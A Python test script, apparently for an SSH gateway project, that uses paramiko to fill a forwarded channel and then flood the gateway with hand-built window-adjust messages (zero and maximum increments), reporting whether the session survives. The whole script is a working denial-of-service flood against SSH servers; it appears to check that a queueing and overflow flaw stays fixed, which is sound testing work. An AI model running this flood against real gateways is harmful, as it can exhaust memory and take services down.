"""A device that fills a channel toward a target that never reads, then floods the gateway with
SSH_MSG_CHANNEL_WINDOW_ADJUST: increments of 0 (each used to be one queued message in the
gateway) and of 2^32-1 (the window must not overflow). russh's client cannot send these; paramiko
builds them by hand. Prints one line: "alive N" when the session still answers a global request
after N adjustments, "dead N" otherwise.

Usage: window_adjust_flood.py HOST PORT USER KEY TARGET_HOST TARGET_PORT COUNT
"""
import socket
import sys

import paramiko
from paramiko.common import cMSG_CHANNEL_WINDOW_ADJUST
from paramiko.message import Message

host, port, user, key, target_host, target_port, count = sys.argv[1:8]
transport = paramiko.Transport((host, int(port)))
transport.start_client(timeout=20)
transport.auth_publickey(user, paramiko.Ed25519Key.from_private_key_file(key))
channel = transport.open_channel(
    "direct-tcpip", (target_host, int(target_port)), ("127.0.0.1", 40000), timeout=20
)

# Fill the path: the gateway's relay blocks writing to the target, so what arrives for this
# channel from now on stays in its queue.
channel.settimeout(2)
try:
    while True:
        channel.send(b"x" * 32768)
except socket.timeout:
    pass


def adjust(increment):
    m = Message()
    m.add_byte(cMSG_CHANNEL_WINDOW_ADJUST)
    m.add_int(channel.remote_chanid)
    m.add_int(increment)
    transport._send_user_message(m)


sent = 0
for i in range(int(count)):
    adjust(0xFFFFFFFF if i % 10000 == 0 else 0)
    sent += 1

# The gateway reads a session's packets in order: an answer to a request sent after the flood
# means it took in the whole flood. (A device may not publish: a refusal is an answer.)
try:
    transport.global_request("tcpip-forward", ("localhost", 1883), wait=True)
    print(("alive" if transport.is_active() else "dead"), sent, flush=True)
except Exception as e:  # noqa: BLE001 - any failure here means the session is gone
    print("dead", sent, repr(e), flush=True)
